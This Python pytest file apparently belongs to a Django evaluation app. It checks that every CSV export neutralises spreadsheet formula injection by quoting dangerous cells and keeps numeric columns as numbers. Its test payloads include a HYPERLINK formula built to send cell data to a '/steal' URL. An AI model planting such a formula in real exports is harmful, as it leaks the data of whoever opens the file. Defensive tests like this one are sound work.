"""CSV formula injection: every CSV the product serves neutralises cells a spreadsheet would run as a
formula (= + - @, tab, carriage return) through exports.neutralise, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from evaluations.models import Endpoint, Result
from evaluations.selectors.exports import COLUMNS, FORMULA_PREFIXES
from tests.hostile import seed_hostile_run

FORMULAS = (
    '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"open")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
)
NUMERIC = {"run_id", "arm_id", "suite_version", "sample", "score", "prompt_tokens", "completion_tokens",
           "latency_ms", "cost"}  # fmt: skip
# Every route that serves CSV, with how to build its address for a run: a new CSV export must be
# added here (test_every_csv_route_is_covered fails until it is).
CSV_ROUTES = {"evaluations:run-export-csv": lambda run: reverse("evaluations:run-export-csv", args=[run.pk])}

pytestmark = pytest.mark.django_db


def _routes(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            namespace = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            yield from _routes(entry, namespace)
        elif isinstance(entry, URLPattern):
            yield f"{prefix}{entry.name}", str(entry.pattern)


def test_every_csv_route_is_covered():
    served = {
        name for name, pattern in _routes() if "csv" in pattern.lower() or "csv" in (name or "").lower()
    }
    assert served == set(CSV_ROUTES)


def _csv(client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("route", list(CSV_ROUTES))
def test_a_csv_export_neutralises_every_formula_and_keeps_numbers(auth_client, route):
    run, _ = seed_hostile_run(payloads=FORMULAS)
    negative = Result.objects.filter(arm__run=run).order_by("pk").first()
    Result.objects.filter(pk=negative.pk).update(score=-0.5)  # e.g. a score delta: a number, not a formula
    suite = run.suite_version.suite
    endpoints = set(Endpoint.objects.filter(arms__run=run).values_list("name", flat=True))

    rows = _csv(auth_client, CSV_ROUTES[route](run))

    assert len(rows) == Result.objects.filter(arm__run=run).count()
    assert set(rows[0]) == set(COLUMNS)
    for row in rows:
        for column, cell in row.items():
            if column in NUMERIC:
                if cell:
                    float(cell)  # a number, written as one
                continue
            assert not cell.startswith(FORMULA_PREFIXES), f"{column}: {cell!r} would run as a formula"
        # the texts are all there, each behind one quote
        assert row["suite"] == "'" + suite.name
        assert row["endpoint"].removeprefix("'") in endpoints and row["endpoint"].startswith("'")
        assert row["case_key"].startswith("'")
        assert row["input"].startswith(("'", "[")), row["input"]  # chat messages are JSON
        if row["output"]:
            assert row["output"].startswith("'") and row["output"][1:].startswith(tuple(FORMULAS))
        if row["error"]:
            assert row["error"].startswith("'")
    assert any(row["strategy"].startswith("'" + FORMULAS[2]) for row in rows)
    assert [float(row["score"]) for row in rows if row["score"] and float(row["score"]) < 0] == [-0.5]
